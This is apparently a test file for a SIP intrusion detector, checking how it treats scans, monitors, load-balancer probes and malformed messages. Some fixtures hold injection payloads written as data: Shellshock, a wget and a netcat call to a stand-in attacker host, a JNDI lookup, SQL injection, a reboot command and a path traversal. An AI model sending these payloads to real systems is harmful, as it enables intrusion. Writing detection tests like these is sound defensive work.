import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { assertBlocked, assertNobodyBlocked, assertOnlyBlocked, judge } from '../traffic/judge.ts';
import { Traffic } from '../traffic/traffic.ts';

const attacker = { address: '203.0.113.66', agent: null };
const guests = Array.from({ length: 12 }, (_, i) => `192.0.2.${10 + i}`);
/** What a load balancer writes before anything else (the PROXY protocol, versions 1 and 2). */
const prefaces = {
  'version 1': 'PROXY TCP4 203.0.113.7 192.0.2.10 50000 5060\r\n',
  'version 1, of itself': 'PROXY UNKNOWN\r\n',
  'version 2': '\r\n\r\n\0\r\nQUIT\n\x21\x11\0\x0c\x0b\x14\x1e\x28\x0c\0\x02\x0a\x1c\x40\x13\x44',
  'version 2, of itself': '\r\n\r\n\0\r\nQUIT\n\x20\0\0\0',
};

test('a script in a header is told at once, and blocks nobody by itself', () => {
  const story = new Traffic();
  const headers = ['Subject: "><script src=//203.0.113.66/x.js></script>'];
  for (const at of [0, 90, 180]) story.exchange(at, attacker, { method: 'OPTIONS', user: '100', headers }, 200);
  const judged = judge(story);
  assertNobodyBlocked(judged);
  const [attack] = judged.attacks;
  assert.deepEqual(
    [attack?.detector, attack?.action, attack?.targets],
    ['protocol-anomaly', 'notice', ['script-injection']],
  );
});

/** Each is read by whoever shows, stores or logs what callers send; each stands in another header. */
const injections: Record<string, string> = {
  'a shell function in the User-Agent': 'User-Agent: () { :;}; /bin/bash -c "id"',
  'a shell command in the User-Agent': 'User-Agent: $(wget http://203.0.113.66/x)',
  'SQL in the User-Agent': "User-Agent: a' UNION SELECT null,null--",
  'a look-up in the Contact': 'Contact: "\x24{jndi:ldap://203.0.113.66/a}" <sip:a@b>',
  'printf directives in the User-Agent': 'User-Agent: %n%n%n%n',
  'SQL in the credentials': `Authorization: Digest username="a' or 1=1 --", realm="a", nonce="b", uri="c", response="d"`,
};

describe('one string that is to be run elsewhere is enough', () => {
  for (const [name, header] of Object.entries(injections))
    test(name, () => {
      const story = new Traffic();
      const from = '198.51.100.200';
      story.raw(
        0,
        { address: from },
        `OPTIONS sip:192.0.2.10 SIP/2.0\r\nVia: SIP/2.0/UDP ${from};branch=z9hG4bK1\r\nFrom: <sip:a@b>;tag=1\r\nTo: <sip:b@c>\r\nCall-ID: 1\r\nCSeq: 1 OPTIONS\r\nMax-Forwards: 70\r\n${header}\r\nContent-Length: 0\r\n\r\n`,
      );
      story.exchange(60, { address: '198.51.100.7' }, { method: 'OPTIONS', user: '' }, 200);
      assertOnlyBlocked(judge(story), [from]);
    });

  test('also in the name of who asks, or in the number that is called', () => {
    for (const fields of [
      { method: 'OPTIONS', user: '100', from: "a'%20or%20'1'='1" },
      { method: 'INVITE', user: '$(reboot)%60id%60' },
      { method: 'OPTIONS', user: '../../../../etc/asterisk/sip.conf' },
    ]) {
      const story = new Traffic();
      story.exchange(0, attacker, fields, 404);
      assertBlocked(judge(story), attacker.address, 'protocol-anomaly');
    }
  });

  for (const method of ['INVITE', 'MESSAGE'])
    test(`but for the name of who sends an ${method}: a carrier that is not known yet hands it on, and it is told`, () => {
      const story = new Traffic();
      const from = '198.51.100.200';
      story.raw(
        0,
        { address: from },
        `${method} sip:100@192.0.2.10 SIP/2.0\r\nVia: SIP/2.0/UDP ${from};branch=z9hG4bK1\r\nFrom: "a' or '1'='1" <sip:+4930123456@${from}>;tag=1\r\nTo: <sip:100@192.0.2.10>\r\nCall-ID: 1\r\nCSeq: 1 ${method}\r\nMax-Forwards: 70\r\nContact: <sip:${from}>\r\nContent-Length: 0\r\n\r\n`,
      );
      story.exchange(60, { address: '198.51.100.7' }, { method: 'OPTIONS', user: '' }, 200);
      const judged = judge(story);
      assertNobodyBlocked(judged);
      assert.equal(judged.attacks[0]?.detector, 'protocol-anomaly');
    });

  test('where accounts work it is told', () => {
    const story = new Traffic();
    const office = { address: '198.51.100.7' };
    story.register(0, office, '100', 200);
    story.exchange(5, { ...office, agent: 'x | nc 203.0.113.66 4444' }, { method: 'OPTIONS', user: '' }, 200);
    const judged = judge(story);
    assertNobodyBlocked(judged);
    assert.equal(judged.attacks.length, 1);
  });

  test('names and programs that only look so', () => {
    const story = new Traffic();
    const agents = [
      'Avaya one-X {SIP} Softphone (){}',
      "Linphone (O'Neil's phone) 5.0",
      'MicroSIP/3.21; Windows',
      'R&D | Sales',
    ];
    for (const [i, agent] of agents.entries())
      story.register(i * 5, { address: '198.51.100.7', agent }, `10${i}`, 401, { callId: `{A${i}-BB}@x` });
    assert.equal(judge(story).attacks.length, 0);
  });
});

describe('a monitor watches many hosts and names a user', () => {
  const watched = guests.slice(0, 8);
  for (const [step, every] of [
    [0.02, 60],
    [1.5, 60],
    [0.5, 300],
  ] as const)
    test(`one every ${step} s, a round every ${every} s, one of them is in trouble, and another does not answer`, () => {
      const story = new Traffic();
      for (let round = 0; round < 15; round++)
        for (const [i, server] of watched.entries())
          story.exchange(
            round * every + i * step,
            { address: '198.51.100.7', agent: 'check_sip', server },
            { method: 'OPTIONS', user: 'monitor' },
            i === 3 ? 503 : i === 5 ? undefined : 200,
          );
      assertNobodyBlocked(judge(story, { protect: guests }));
    });

  for (const [name, user, status] of [
    ['a host knows no such user', 'monitor', 404],
    ['it is an extension', '100', 200],
    ['it is somebody who may be there', 'test', 200],
  ] as const)
    test(`it is none where ${name}: it is out at once`, () => {
      const story = new Traffic();
      for (const [i, server] of watched.entries())
        story.exchange(i * 0.1, { ...attacker, server }, { method: 'OPTIONS', user }, status);
      for (let i = 0; i < 60; i++)
        story.exchange(i * 10, { address: '198.51.100.7' }, { method: 'OPTIONS', user: '' }, 200);
      const { time, firstTime } = assertBlocked(judge(story, { protect: guests }), attacker.address, 'options-sweep');
      assert.ok(time - firstTime < 1_000);
    });

  test('it is none where it does not come back', () => {
    const story = new Traffic();
    for (const [i, server] of watched.slice(0, 4).entries())
      story.exchange(i * 0.1, { ...attacker, server }, { method: 'OPTIONS', user: 'monitor' });
    assertBlocked(judge(story, { protect: guests }), attacker.address, 'options-sweep');
  });
});

describe('hosts are scanned with OPTIONS', () => {
  for (const every of [0.01, 1, 60, 400])
    test(`twelve guests, one every ${every} s`, () => {
      const story = new Traffic();
      for (const [i, server] of guests.entries())
        story.exchange(i * every, { ...attacker, port: 5080, server }, { method: 'OPTIONS', user: '100' }, 200);
      assertBlocked(judge(story, { protect: guests }), attacker.address, 'options-sweep');
    });

  for (const [hosts, every] of [
    [12, 0.01],
    [12, 100],
    [40, 0.5],
  ] as const)
    test(`${hosts} hosts, no user, one every ${every} s`, () => {
      const story = new Traffic();
      const all = Array.from({ length: hosts }, (_, i) => `192.0.2.${10 + i}`);
      for (const [i, server] of all.entries())
        story.exchange(i * every, { ...attacker, server }, { method: 'OPTIONS', user: '' }, 200);
      assertBlocked(judge(story, { protect: all }), attacker.address, 'options-sweep');
    });

  test('with a tag of a dialog that there is not', () => {
    const story = new Traffic();
    for (const [i, server] of guests.entries())
      story.exchange(i, { ...attacker, server }, { method: 'OPTIONS', user: '100', toTag: `t${i}` }, 200);
    assertBlocked(judge(story, { protect: guests }), attacker.address, 'options-sweep');
  });

  test('by somebody whose call the PBX has answered: it is told', () => {
    const story = new Traffic();
    const many = Array.from({ length: 60 }, (_, i) => `192.0.2.${10 + i}`);
    story.exchange(0, { ...attacker, server: many[0]! }, { method: 'INVITE', user: '900' }, 200);
    for (const [i, server] of many.entries())
      story.exchange(5 + i * 0.2, { ...attacker, server }, { method: 'OPTIONS', user: '100' }, 200);
    const told = judge(story, { protect: many }).attacks.filter(({ detector }) => detector === 'options-sweep');
    assert.ok(told.length > 0);
    assert.ok(told.every((one) => one.attacker === attacker.address));
  });

  for (const [name, fields] of [
    ['SIPVicious', { from: '100', fromTag: '6333313330353463313363340131323334353637' }],
    ['Nmap', { user: 'nm', branch: 'foo', fromTag: 'root', callId: '50000', cseq: 42 }],
  ] as const)
    test(`${name} is recognised without its User-Agent`, () => {
      const story = new Traffic();
      const request = { method: 'OPTIONS', user: '100', ...fields };
      // Nmap's probe has a Request-URI without a host: sip:nm
      if (name === 'Nmap') {
        const text =
          'OPTIONS sip:nm SIP/2.0\r\nVia: SIP/2.0/UDP nm;branch=foo;rport\r\nFrom: <sip:nm@nm>;tag=root\r\nTo: <sip:nm2@nm2>\r\nCall-ID: 50000\r\nCSeq: 42 OPTIONS\r\nMax-Forwards: 70\r\nContent-Length: 0\r\n\r\n';
        story.raw(0, attacker, text);
      } else story.exchange(0, attacker, request, 200);
      assertBlocked(judge(story), attacker.address, 'scanner-signature');
    });
});

test('an INVITE with made-up credentials to each of twelve guests, all refused', () => {
  const guests = Array.from({ length: 12 }, (_, i) => `192.0.2.${10 + i}`);
  const story = new Traffic();
  for (const [i, server] of guests.entries())
    story.exchange(
      i * 120,
      { address: '203.0.113.66', agent: null, server },
      { method: 'INVITE', user: '100', auth: { nonce: 'made up' } },
      404,
    );
  assertBlocked(judge(story, { protect: guests }), '203.0.113.66', 'options-sweep');
});

describe('malformed messages', () => {
  test('a device with one small flaw in all its messages (a space in the Call-ID) is left alone all day', () => {
    const story = new Traffic();
    for (let i = 0; i < 600; i++)
      story.register(i * 30, { address: '198.51.100.7' }, '100', 401, { callId: 'my phone', cseq: 1 + 2 * i });
    assertNobodyBlocked(judge(story));
  });

  for (const header of ['Via', 'CSeq'])
    test(`twenty requests without ${header}, which no server can answer, are not a small flaw`, () => {
      const story = new Traffic();
      for (let i = 0; i < 20; i++) {
        const lines = [
          'OPTIONS sip:100@192.0.2.10 SIP/2.0',
          `Via: SIP/2.0/UDP 203.0.113.66:5060;branch=z9hG4bK${i}`,
          `From: <sip:100@203.0.113.66>;tag=${i}`,
          'To: <sip:100@192.0.2.10>',
          `Call-ID: ${i}@203.0.113.66`,
          'CSeq: 1 OPTIONS',
          'Content-Length: 0',
        ];
        story.raw(i, attacker, [...lines.filter((line) => !line.startsWith(header)), '', ''].join('\r\n'));
      }
      assertBlocked(judge(story), attacker.address, 'protocol-anomaly');
    });

  for (const every of [0.5, 20, 120])
    test(`payloads that are no SIP, one every ${every} s`, () => {
      const story = new Traffic();
      for (let i = 0; i < 100; i++) story.raw(i * every, attacker, `GET /${i} HTTP/1.1\r\nHost: a\r\n\r\n`);
      assertBlocked(judge(story), attacker.address, 'protocol-anomaly');
    });

  for (const [what, gap] of [
    ['one connection after the other', 20],
    ['all in one connection', 0.4],
  ] as const)
    test(`ever other payloads over TCP that are no SIP, ${what}`, () => {
      const story = new Traffic();
      for (let i = 0; i < 100; i++) {
        const peer = { ...attacker, transport: 'TCP', port: gap < 1 ? 20_000 : 20_000 + i } as const;
        story.raw(i * gap, peer, `EVAL ${i} redis\r\n`);
      }
      assertBlocked(judge(story), attacker.address, 'protocol-anomaly', 'proven');
    });

  for (const text of ['Cirpack KeepAlive Packet', 'hello', 'NAT-KeepAlive'])
    test(`what keeps a way open in words of its own is none: ${text}`, () => {
      const story = new Traffic();
      for (let i = 0; i < 240; i++) story.raw(i * 15, { address: '198.51.100.7' }, text);
      assertNobodyBlocked(judge(story));
    });

  test('nor does it count for nothing at a higher pace', () => {
    const story = new Traffic();
    for (let i = 0; i < 60; i++) story.raw(i * 2, attacker, 'Cirpack KeepAlive Packet');
    assertBlocked(judge(story), attacker.address, 'protocol-anomaly');
  });

  for (const [version, preface] of Object.entries(prefaces)) {
    test(`a PROXY preface (${version}) over UDP, where there is none`, () => {
      const story = new Traffic();
      for (let i = 0; i < 60; i++) story.raw(i * 2, attacker, preface);
      assertBlocked(judge(story), attacker.address, 'protocol-anomaly', 'unproven');
    });

    test(`one PROXY preface (${version}) after the other in a TCP connection, and what follows one`, () => {
      const again = new Traffic();
      for (let i = 0; i < 60; i++) again.raw(i * 2, { ...attacker, transport: 'TCP' }, preface);
      assertBlocked(judge(again), attacker.address, 'protocol-anomaly', 'proven');
      const behind = new Traffic();
      for (let i = 0; i < 60; i++)
        behind.raw(i * 2, { ...attacker, transport: 'TCP', port: 40_000 + i }, `${preface}GET / HTTP/1.1\r\n\r\n`);
      assertBlocked(judge(behind), attacker.address, 'protocol-anomaly', 'proven');
    });
  }

  test('passwords guessed behind PROXY prefaces: the address in them does not count', () => {
    const story = new Traffic();
    for (let i = 0; i < 30; i++) {
      const peer = { ...attacker, transport: 'TCP', port: 40_000 + i } as const;
      story.raw(i * 2, peer, `PROXY TCP4 203.0.113.${i + 100} 192.0.2.10 50000 5060\r\n`);
      story.register(i * 2 + 0.1, peer, '100', 401);
    }
    const judged = judge(story);
    assertBlocked(judged, attacker.address, 'register-brute-force', 'proven');
    assert.ok(judged.attacks.every((one) => one.attacker === attacker.address));
  });
});

describe('monitoring', () => {
  for (const every of [0.5, 1, 10])
    for (const agent of ['sipsak 0.9.8.1', 'Nagios check_sip', null])
      test(`OPTIONS every ${every} s by ${agent ?? 'a probe without a name'}`, () => {
        const story = new Traffic();
        for (let i = 0; i < 400; i++)
          story.exchange(
            i * every,
            { address: '198.51.100.7', port: 30_000 + i, agent },
            { method: 'OPTIONS', user: 'ping' },
            200,
          );
        assertNobodyBlocked(judge(story));
      });

  // sipsak at Asterisk's PJSIP, which challenges OPTIONS
  for (const agent of ['sipsak 0.9.8.1', null])
    test(`three users every 20 s, once more with the credentials that are asked for, ${agent ?? 'without a name'}`, () => {
      const story = new Traffic();
      for (let i = 0; i < 120; i++)
        for (let n = 0; n < 3; n++) {
          const fields = { method: 'OPTIONS', user: `${197 + n}`, callId: `ping${i}.${n}` };
          const peer = { address: '198.51.100.7', port: 30_000 + 3 * i + n, agent };
          const nonce = story.fresh('n');
          story.exchange(i * 20 + n, peer, { ...fields, cseq: 1 }, 401, { nonce });
          const auth = { nonce, account: fields.user };
          story.exchange(i * 20 + n + 0.03, peer, { ...fields, cseq: 2, auth }, 401);
        }
      assertNobodyBlocked(judge(story));
    });

  for (const agent of ['sipsak 0.9.8.1', null])
    test(`five targets one by one, a round a minute, ${agent ?? 'without a name'}`, () => {
      const story = new Traffic();
      for (let round = 0; round < 60; round++)
        for (let target = 0; target < 5; target++)
          story.exchange(
            round * 60 + target * 1.1,
            { address: '198.51.100.7', port: 30_000 + round, agent, server: guests[target]! },
            { method: 'OPTIONS', user: 'ping' },
            200,
          );
      assertNobodyBlocked(judge(story, { protect: guests }));
    });

  for (const [version, preface] of Object.entries(prefaces)) {
    test(`a load balancer looks with a PROXY preface (${version}) whether the port is open, every 2 s`, () => {
      const story = new Traffic();
      for (let i = 0; i < 300; i++)
        story.raw(i * 2, { address: '198.51.100.7', transport: 'TCP', port: 30_000 + i }, preface);
      const judged = judge(story);
      assertNobodyBlocked(judged);
      assert.deepEqual(
        [judged.counters.seen.keepAlives, judged.counters.seen.nonSip, judged.counters.lost.streamJunk],
        [300, 0, 0],
      );
    });

    test(`phones come through a load balancer that writes a PROXY preface (${version})`, () => {
      const story = new Traffic();
      for (let i = 0; i < 60; i++) {
        const peer = { address: '198.51.100.7', transport: 'TCP', port: 30_000 + i } as const;
        story.raw(i * 2, peer, preface);
        story.register(i * 2 + 0.1, peer, `${100 + i}`, 200);
      }
      const judged = judge(story);
      assertNobodyBlocked(judged);
      assert.deepEqual([judged.counters.seen.sipRequests, judged.counters.seen.nonSip], [120, 0]);
    });
  }

  for (const check of [
    'GET / HTTP/1.0\r\n\r\n',
    'OPTIONS / HTTP/1.0\r\n\r\n',
    'GET /health HTTP/1.1\r\nHost: 192.0.2.10:5060\r\nUser-Agent: ELB-HealthChecker/2.0\r\nAccept: */*\r\n\r\n',
  ])
    test(`a load balancer asks by HTTP whether the port is open, every 5 s: ${check.split('\r')[0]}`, () => {
      const story = new Traffic();
      for (let i = 0; i < 400; i++)
        story.raw(i * 5, { address: '198.51.100.7', transport: 'TCP', port: 20_000 + i }, check);
      assertNobodyBlocked(judge(story));
    });

  for (const [servers, every] of [
    [8, 10],
    [12, 30],
    [20, 10],
  ] as const)
    test(`a proxy pings ${servers} servers all at once every ${every} s`, () => {
      const story = new Traffic();
      const all = Array.from({ length: servers }, (_, i) => `192.0.2.${10 + i}`);
      for (let round = 0; round < 60; round++)
        for (const [i, server] of all.entries())
          story.exchange(
            round * every + i * 0.002,
            { address: '198.51.100.7', agent: 'kamailio (5.6.3)', server },
            { method: 'OPTIONS', user: '' },
            200,
          );
      assertNobodyBlocked(judge(story, { protect: all }));
    });

  for (const [servers, step, every] of [
    [6, 0.35, 30],
    [12, 0.02, 60],
    [4, 2, 60],
  ] as const)
    test(`a monitor asks ${servers} servers, each from another port each time, every ${every} s`, () => {
      const story = new Traffic();
      const all = Array.from({ length: servers }, (_, i) => `192.0.2.${10 + i}`);
      for (let round = 0; round < 40; round++)
        for (const [i, server] of all.entries())
          story.exchange(
            round * every + i * step,
            { address: '198.51.100.7', port: 30_000 + round * servers + i, agent: null, server },
            { method: 'OPTIONS', user: '' },
            200,
          );
      // time passes, and it is quiet
      story.exchange(40 * every + 400, { address: '198.51.100.9' }, { method: 'OPTIONS', user: '' }, 200);
      assertNobodyBlocked(judge(story, { protect: all }));
    });

  test('a load balancer asks three back ends once a second each', () => {
    const story = new Traffic();
    for (let i = 0; i < 300; i++)
      for (let target = 0; target < 3; target++)
        story.exchange(
          i + target * 0.01,
          { address: '198.51.100.7', agent: null, server: guests[target]! },
          { method: 'OPTIONS', user: '' },
          200,
        );
    assertNobodyBlocked(judge(story, { protect: guests }));
  });
});
